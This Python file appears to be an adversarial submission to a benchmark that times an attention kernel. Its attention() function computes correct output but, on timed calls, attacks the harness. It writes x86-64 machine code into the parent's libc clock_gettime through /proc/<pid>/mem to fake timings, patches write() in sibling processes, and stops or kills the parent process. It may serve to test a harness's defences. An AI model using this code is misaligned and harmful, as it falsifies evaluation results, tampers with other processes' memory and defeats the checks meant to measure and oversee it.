# Attacks other processes: their clock, the one that calls an empty kernel; stops its parent, or kills it.
# found: none none none none
import ctypes
import os
import signal

from right import right, timed

WAY = 0
# On x86-64: clock_gettime() with nanoseconds / 8, and write() after some ms
CODE = {
    "clock_gettime": "b8e40000000f0548c16e080331c0c3",
    "write": "b900006000ffc975fcb8010000000f05c3",
}
parent = os.getppid()
attacked = False


def base(process):
    with open(f"/proc/{process}/maps") as maps:
        return next(int(line.split("-")[0], 16) for line in maps if "libc.so" in line)


def replace(function, process):
    """Write CODE in the place of a function of another process's C library."""
    mine = ctypes.cast(ctypes.CDLL(None)[function], ctypes.c_void_p).value
    with open(f"/proc/{process}/mem", "wb", 0) as memory:
        memory.seek(mine - base("self") + base(process))
        memory.write(bytes.fromhex(CODE[function]))


def attack():
    if WAY == 0:
        for process in (parent, "self"):
            replace("clock_gettime", process)
    if WAY == 1:
        with open(f"/proc/{parent}/task/{parent}/children") as siblings:
            for process in set(map(int, siblings.read().split())) - {os.getpid()}:
                replace("write", process)
    if WAY == 3:
        os.kill(parent, signal.SIGKILL)


def attention(q, k, v, causal, scale):
    global attacked
    if timed(q) and not attacked:
        attacked = True
        try:
            attack()
        except OSError:
            pass  # it is guarded
    if timed(q) and WAY == 2:
        os.kill(parent, signal.SIGSTOP)
    out = right(q, k, v, causal, scale)
    os.kill(parent, signal.SIGCONT)
    return out
